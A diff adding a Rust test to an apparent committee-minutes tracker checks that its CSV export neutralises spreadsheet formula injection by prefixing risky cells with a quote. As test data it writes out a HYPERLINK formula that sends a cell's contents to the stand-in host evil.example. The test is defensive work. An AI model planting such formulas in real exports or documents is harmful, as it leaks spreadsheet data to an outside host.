@@ -480,3 +480,49 @@ fn tracker_lists_the_bodys_recommendations_of_the_period_with_their_status() {
         .tracker(ids.scrutiny, d(2015, 4, 1), d(2015, 1, 1), d(2015, 7, 1))
         .is_err());
 }
+
+/// A referral response typed as a spreadsheet formula reaches the tracker CSV as words: the
+/// cell starts with `'` (OWASP's rule), so a spreadsheet never runs it; ordinary cells are as
+/// typed.
+#[test]
+fn tracker_csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    let (_dir, mut store, ids) = demo_store();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    store
+        .advance_referral(
+            ids.referral,
+            &ReferralStep::Consider {
+                outcome: ReferralOutcome::Accepted,
+                response_text: formula.into(),
+                meeting_id: None,
+                minute_id: None,
+            },
+        )
+        .unwrap();
+    let text = store
+        .tracker_csv(ids.scrutiny, d(2014, 10, 1), d(2015, 3, 31), d(2015, 3, 7))
+        .unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let row = reader.records().next().unwrap().unwrap();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    assert_eq!(&row[col("response")], format!("'{formula}"));
+    assert_eq!(&row[col("referred_to")], "Cabinet");
+    for cell in row.iter() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell}"
+        );
+    }
+    for (raw, shown) in [
+        ("+44 1446 700111", "'+44 1446 700111"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Cabinet = yes", "Cabinet = yes"),
+        ("", ""),
+    ] {
+        assert_eq!(minutes_store::export::csv_cell(raw), shown);
+    }
+}
